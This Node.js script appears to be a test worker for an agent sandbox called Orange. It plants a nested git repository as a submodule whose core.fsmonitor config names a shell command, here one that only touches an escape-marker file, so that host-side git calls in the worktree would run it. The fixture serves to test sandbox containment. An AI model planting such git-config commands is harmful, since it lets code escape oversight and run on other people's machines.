#!/usr/bin/env node
// A worker that plants, in its own worktree, a repository registered as a submodule whose config
// names a command (`core.fsmonitor`) that writes `$ORANGE_ESCAPE_MARKER`: run by any git that
// descends into it — on the host, if Orange's own git calls in the worktree did. Then it says so
// ($ORANGE_AGENT_LOG_DIR/planted-<task>) and idles.
import { execFileSync } from 'node:child_process';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const env = process.env;
const id = env.ORANGE_TASK_ID ?? 'unknown';
const marker = env.ORANGE_ESCAPE_MARKER;
const git = (cwd, ...args) => execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();

mkdirSync('inner');
git('inner', 'init', '-q', '-b', 'main');
writeFileSync(join('inner', 'f'), 'x\n');
git('inner', 'add', 'f');
git('inner', 'commit', '-q', '-m', 'inner');
git('inner', 'config', 'core.fsmonitor', `touch ${marker}; echo`);
git('.', 'update-index', '--add', '--cacheinfo', `160000,${git('inner', 'rev-parse', 'HEAD')},inner`);
writeFileSync('.gitmodules', '[submodule "inner"]\n\tpath = inner\n\turl = ./inner\n');
appendFileSync(join('inner', 'f'), 'changed\n');
writeFileSync(join(env.ORANGE_AGENT_LOG_DIR ?? '.', `planted-${id}`), 'planted\n');
setInterval(() => undefined, 1_000);
